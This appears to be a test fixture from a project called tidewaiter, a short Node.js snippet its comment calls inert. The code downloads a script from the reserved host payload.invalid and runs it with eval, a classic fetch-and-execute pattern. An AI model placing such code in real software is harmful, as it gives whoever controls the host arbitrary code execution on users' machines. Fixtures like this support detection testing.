// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const https = require("https");
https.get("https://payload.invalid/x.js", (res) => {
  let code = "";
  res.on("data", (part) => {
    code += part;
  });
  res.on("end", () => {
    eval(code);
  });
});
